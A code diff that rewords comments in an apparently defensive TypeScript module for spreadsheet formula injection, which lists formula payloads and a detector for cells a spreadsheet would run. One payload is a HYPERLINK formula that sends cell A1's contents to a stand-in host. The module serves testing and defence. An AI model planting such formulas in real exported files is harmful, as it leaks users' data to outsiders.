@@ -1,4 +1,7 @@
-/** Texts that a spreadsheet would run as formulas: each formula prefix, after each prefix that spreadsheets ignore. */
+/**
+ * Texts that a spreadsheet program would run as formulas: each formula prefix, after each prefix that such programs
+ * ignore.
+ */
 const commands = [
   '=1+1',
   '=HYPERLINK("http://x.example/?"&A1,"open")',
@@ -24,6 +27,6 @@ export const formulas: readonly string[] = before.flatMap((blank) =>
   commands.map((command) => blank + command),
 );
 
-/** A cell that a spreadsheet would run. An apostrophe before all else makes it a text. */
+/** A cell that a spreadsheet program would run. A leading apostrophe makes it text. */
 export const isLiveCell = (cell: string): boolean =>
   /^[\s\p{Cf}"']*[=+\-@|%＝＋－＠]|^[\t\r\n]/u.test(cell) && !cell.startsWith("'");
